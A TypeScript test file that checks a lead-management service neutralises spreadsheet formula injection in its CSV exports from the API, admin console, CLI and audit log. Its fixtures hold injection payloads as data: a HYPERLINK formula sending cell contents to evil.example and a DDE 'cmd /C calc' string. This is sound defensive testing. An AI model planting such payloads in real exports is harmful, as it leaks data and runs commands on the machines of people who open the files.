// CSV exports are safe to open in a spreadsheet: a cell starting with = + - @, a tab or a carriage return
// gets a leading single quote, from the API, the console's export link and the CLI; NDJSON and JSON keep values as sent.
import { execFile } from 'node:child_process';
import { mkdtemp, readFile, rm } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { promisify } from 'node:util';
import { parse } from 'csv-parse/sync';
import { sql } from 'drizzle-orm';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { adminToken, type Harness, secretKey, startHarness } from '../support/harness.js';

interface Sent {
  leadId: string;
  phone: string;
  name: string;
  clickId: string;
  subs: Record<string, string>;
}

const formulaStarts = ['=', '+', '-', '@', '\t', '\r'];
let h: Harness;
let key: string;
const sent: Sent[] = [];
let workDir: string;

beforeAll(async () => {
  h = await startHarness();
  await h.createCampaign('csv-inj');
  key = await h.createPartner(['csv-inj']);
  workDir = await mkdtemp(join(tmpdir(), 'leadbridge-csv-'));
  for (const [index, start] of formulaStarts.entries()) {
    const lead: Omit<Sent, 'leadId'> = {
      phone: `+7912000005${index}`,
      name: `${start}HYPERLINK("https://evil.example/?leak="&A1,"Click me")`,
      clickId: `${start}cmd|' /C calc'!A${index}`,
      subs: Object.fromEntries([1, 2, 3, 4, 5].map((n) => [`sub${n}`, `${start}${n}+${n}`])),
    };
    const answer = await h.request({
      method: 'POST',
      url: '/v1/leads/csv-inj',
      body: { phone: lead.phone, name: lead.name, click_id: lead.clickId, ...lead.subs },
      headers: { 'x-api-key': key },
    });
    expect(answer.status).toBe(201);
    const leadId = answer.body.lead_id as string;
    if (start === '\t' || start === '\r') {
      // Intake trims surrounding whitespace, so a stored value begins with a tab or carriage return only
      // when written another way (an import, a direct fix): the export must neutralise it all the same.
      await h.testDatabase.database.orm.execute(
        sql`update leads set name = ${lead.name}, click_id = ${lead.clickId}, subs = ${JSON.stringify(lead.subs)}::jsonb where id = ${leadId}`,
      );
    }
    sent.push({ leadId, ...lead });
  }
});
afterAll(async () => {
  await h?.close();
  if (workDir) await rm(workDir, { recursive: true, force: true });
});

type CsvRow = Record<string, string>;
const readCsv = (text: string): CsvRow[] => parse(text, { columns: true });

/** Every lead's name, click id, phone and sub-id cells are neutralised; the JSON `subs` cell holds them unchanged. */
function expectNeutralised(rows: CsvRow[]) {
  expect(rows).toHaveLength(sent.length);
  for (const lead of sent) {
    const row = rows.find((candidate) => candidate.lead_id === lead.leadId);
    expect(row, lead.leadId).toBeDefined();
    expect(row?.name).toBe(`'${lead.name}`);
    expect(row?.click_id).toBe(`'${lead.clickId}`);
    expect(row?.phone).toBe(`'${lead.phone}`);
    expect(row?.subs?.charAt(0)).toBe('{');
    expect(JSON.parse(row?.subs ?? 'null')).toEqual(lead.subs);
    for (const [sub, value] of Object.entries(lead.subs)) expect(row?.[sub], sub).toBe(`'${value}`);
  }
  expectNoFormulaCell(rows);
}

/** No cell of the file begins with a character a spreadsheet reads as the start of a formula. */
function expectNoFormulaCell(rows: CsvRow[]) {
  for (const row of rows)
    for (const [column, cell] of Object.entries(row))
      expect(formulaStarts.includes(cell.charAt(0)), `${column}: ${JSON.stringify(cell)}`).toBe(false);
}

describe('a lead whose name, click id and sub-ids begin with = + - @, a tab or a carriage return', () => {
  it('exports to CSV from the admin API with every such cell behind a single quote', async () => {
    const response = await h.admin('GET', '/admin/api/leads/export?campaign=csv-inj&format=csv');
    expect(response.status).toBe(200);
    expect(response.headers['content-type']).toContain('text/csv');
    expectNeutralised(readCsv(response.text));
  });

  it('exports the same neutralised CSV from the console export link, signed in with a session cookie', async () => {
    const signIn = await h.request({ method: 'POST', url: '/admin/sign-in', form: { token: adminToken } });
    expect(signIn.status).toBe(303);
    const setCookie = [signIn.headers['set-cookie']].flat().join(';');
    const cookie = setCookie.split(';')[0] as string;
    const page = await h.request({
      method: 'GET',
      url: '/admin/leads?campaign=csv-inj',
      headers: { cookie },
    });
    expect(page.status).toBe(200);
    const link = /href="(\/admin\/api\/leads\/export\?[^"]*format=csv)"/
      .exec(page.text)?.[1]
      ?.replaceAll('&amp;', '&');
    expect(link).toBeDefined();
    const response = await h.request({ method: 'GET', url: link as string, headers: { cookie } });
    expect(response.status).toBe(200);
    expectNeutralised(readCsv(response.text));
  });

  it('exports the same neutralised CSV file from the CLI', { timeout: 120_000 }, async () => {
    const env: Record<string, string> = {
      ...(process.env as Record<string, string>),
      LEADBRIDGE_SECRET_KEY: secretKey,
    };
    env.DATABASE_URL = h.testDatabase.url;
    const out = join(workDir, 'leads.csv');
    await promisify(execFile)(
      process.execPath,
      ['bin/leadbridge.js', 'export', '--leads', '--campaign', 'csv-inj', '--format', 'csv', '--out', out],
      { env },
    );
    expectNeutralised(readCsv(await readFile(out, 'utf8')));
  });

  it('keeps the values unchanged in NDJSON, for programs', async () => {
    const response = await h.admin('GET', '/admin/api/leads/export?campaign=csv-inj&format=ndjson');
    const rows = response.text
      .split('\n')
      .filter(Boolean)
      .map((line) => JSON.parse(line));
    expect(rows).toHaveLength(sent.length);
    for (const lead of sent) {
      expect(rows.find((row) => row.lead_id === lead.leadId)).toMatchObject({
        name: lead.name,
        click_id: lead.clickId,
        phone: lead.phone,
        subs: lead.subs,
      });
    }
  });

  it('keeps the values unchanged in the JSON API answer', async () => {
    for (const lead of sent) {
      const answer = await h.request({
        method: 'GET',
        url: `/v1/leads/${lead.leadId}`,
        headers: { 'x-api-key': key },
      });
      expect(answer.status).toBe(200);
      expect(answer.body.click_id).toBe(lead.clickId);
    }
  });

  it('leaves no cell of the audit CSV starting a formula', async () => {
    const response = await h.admin('GET', '/admin/api/audit?campaign=csv-inj&format=csv');
    const rows = readCsv(response.text);
    expect(rows.length).toBeGreaterThan(0);
    expectNoFormulaCell(rows);
    const received = rows.find((row) => row.event === 'lead.received');
    expect(received?.detail).toContain(sent[0]?.name.replaceAll('"', '\\"'));
  });
});
